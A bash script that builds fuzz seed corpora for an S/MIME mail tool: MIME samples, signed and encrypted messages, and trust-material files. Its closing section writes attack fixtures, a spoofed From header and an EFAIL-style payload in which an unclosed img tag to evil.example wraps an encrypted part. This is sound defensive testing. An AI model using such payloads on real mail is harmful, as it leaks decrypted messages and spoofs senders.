#!/usr/bin/env bash
# Regenerates the seeds of fuzz_mime and fuzz_smime from a built mailseal
# (default build/src/cli/mailseal) and the throw-away identities in
# fuzz/data (made once with `openssl req -x509 -newkey ...`, never used for
# anything but fuzzing).
set -euo pipefail
cd "$(dirname "$0")"
MAILSEAL=${MAILSEAL:-../build/src/cli/mailseal}
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
"$MAILSEAL" init sender@example.com --suite modern --home "$work/sender" >/dev/null 2>&1
"$MAILSEAL" contact import data/fuzz-cert.pem --home "$work/sender" >/dev/null
cat >"$work/plain.eml" <<'MAIL'
From: Sender <sender@example.com>
To: Fuzz <fuzz@example.com>
Subject: seed
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b1"

--b1
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

Hello =C3=BCber
--b1
Content-Type: application/octet-stream
Content-Transfer-Encoding: base64

AAECAw==
--b1--
MAIL
cp "$work/plain.eml" corpus/mime/multipart-mixed.eml
printf 'From: a@example.com\r\nTo: "Group": b@example.com, c@example.com;\r\nSubject: =?utf-8?q?caf=C3=A9?=\r\nContent-Type: text/plain; name*=utf-8%%27%%27caf%%C3%%A9\r\n\r\nbody\r\n' >corpus/mime/encoded-words.eml
printf 'Subject: no body' >corpus/mime/headers-only.eml
printf 'Content-Type: multipart/alternative; boundary=x\n\n--x\n\na\n--x\nContent-Type: text/html\n\n<p>b</p>\n--x--\n' >corpus/mime/lf-endings.eml
"$MAILSEAL" sign "$work/plain.eml" -o corpus/smime/signed-detached.eml --home "$work/sender"
"$MAILSEAL" sign --opaque "$work/plain.eml" -o corpus/smime/signed-opaque.eml --home "$work/sender"
"$MAILSEAL" encrypt "$work/plain.eml" -o corpus/smime/encrypted-signed.eml --home "$work/sender"
"$MAILSEAL" encrypt --no-sign "$work/plain.eml" -o corpus/smime/encrypted.eml --home "$work/sender"
openssl cms -encrypt -aes256 -in "$work/plain.eml" -out corpus/smime/openssl-cbc-rsa.eml data/fuzz-rsa-cert.pem
openssl cms -encrypt -aes-256-gcm -in "$work/plain.eml" -out corpus/smime/openssl-gcm-ec.eml data/fuzz-cert.pem
cp corpus/smime/signed-detached.eml corpus/mime/signed-detached.eml
# Trust material: endorsements with depth and scope, a rotation, a revocation.
"$MAILSEAL" init introducer@example.org --suite modern --home "$work/introducer" >/dev/null 2>&1
"$MAILSEAL" export certificates -o "$work/sender.pem" --home "$work/sender"
"$MAILSEAL" contact import "$work/sender.pem" --home "$work/introducer" >/dev/null
"$MAILSEAL" endorse sender@example.com --amount 60 --depth 2 --scope example.com --scope .example.org \
  --home "$work/introducer" >/dev/null 2>&1
"$MAILSEAL" export endorsements -o corpus/trust_material/endorsements.pem --home "$work/introducer"
"$MAILSEAL" export rotation "$work/sender.pem" -o corpus/trust_material/rotation.pem --home "$work/introducer"
"$MAILSEAL" export revocation -o corpus/trust_material/revocation.pem --home "$work/introducer" 2>/dev/null
openssl crl -in corpus/trust_material/revocation.pem -outform DER -out corpus/trust_material/revocation.der
echo "seeds written"
# Attack shapes (docs/smime.md, "Reading"): two From fields, a signed and an
# encrypted part wrapped in someone else's multipart/mixed, an attached message.
{ printf 'From: mallory@evil.example\r\n'; cat corpus/smime/signed-detached.eml; } >corpus/smime/two-from.eml
{
  printf 'From: mallory@evil.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="w"\r\n\r\n'
  printf -- '--w\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/?\r\n--w\r\n'
  sed -n '/^Content-Type:/,$p' corpus/smime/openssl-gcm-ec.eml
  printf -- '\r\n--w\r\nContent-Type: message/rfc822\r\n\r\n'
  cat corpus/smime/signed-opaque.eml
  printf -- '\r\n--w--\r\n'
} >corpus/smime/wrapped-parts.eml
